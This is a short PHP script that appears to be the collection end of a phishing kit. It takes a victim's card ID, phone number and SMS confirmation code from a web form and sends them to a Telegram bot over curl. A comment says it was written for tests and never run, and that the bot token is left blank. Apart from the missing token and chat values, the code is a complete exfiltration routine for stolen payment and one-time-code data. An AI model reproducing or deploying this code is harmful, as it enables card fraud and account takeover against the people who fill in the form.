<?php
// card and SMS code sent to a bot whose token the kit leaves blank (written for the tests, never run)
$card = $_POST['cardId'];
$phone = $_POST['phone'];
$code = $_POST['code'];
$txt = "Card: $card\nPhone: $phone\nCode: $code";
$ch = curl_init();
curl_setopt_array($ch, [CURLOPT_URL => "https://api.telegram.org/bot" . $token
    . "/sendMessage?chat_id=" . $chat . "&text=" . urlencode($txt), CURLOPT_RETURNTRANSFER => true]);
curl_exec($ch);
echo "OK";
